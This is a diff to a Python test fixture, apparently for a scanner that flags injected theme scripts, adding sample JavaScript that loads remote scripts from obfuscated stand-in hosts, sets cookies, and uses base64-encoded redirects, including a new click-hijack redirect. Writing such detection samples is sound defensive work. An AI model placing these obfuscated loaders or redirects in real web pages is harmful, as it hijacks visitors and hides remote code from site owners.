@@ -10,6 +10,7 @@ from tests.checks.content.scripting import EVIL, in_file, on_page
 from tests.parse.test_scripts import codes, packed
 
 CREDIT = '<footer>Tema <a href="https://temaku.example/">Temaku Pro</a></footer>'
+MADE_BY = "https://temaku.example/lisensi"
 OLD = "var s=document.createElement('script');s.src={};document.head.appendChild(s);"
 
 
@@ -18,8 +19,7 @@ def news(host: str) -> str:
 
 
 LICENCE = OLD.format("'/js/menu.js'") + (
-    f"if(location.hostname!==atob('{b64('www.lain.go.id')}'))"
-    f"location.href=atob('{b64('https://temaku.example/lisensi')}');"
+    f"if(location.hostname!==atob('{b64('www.lain.go.id')}'))location.href=atob('{b64(MADE_BY)}');"
 )
 HALF = [
     # Themes that are packed whole, by who stands below the page.
@@ -30,8 +30,12 @@ HALF = [
     (OLD.format("'https:'.concat('//','cmp.','izinkuki','.example')+'?w='+screen.width"), ""),
     (OLD.format("'https://'+'cmp.'+'izinkuki'+'.example'+'/v2/'+'stub.js'"), ""),
     (OLD.format("'//'+'cmp.'+'izinkuki'+'.example'+'/v2/'") + "document.cookie='c=1'", ""),
-    # A theme of another site.
+    # A theme of another site, or one without its credit.
     (LICENCE, ""),
+    (
+        f"document.addEventListener('click',function(){{if(!c)location.href=atob('{b64(MADE_BY)}')}})",
+        CREDIT,
+    ),
 ]
 SLICED = (
     "var q=['pt','scri','ment','Ele','ate','cre','/a.js','xample','hat.e','//ja'],z=function("
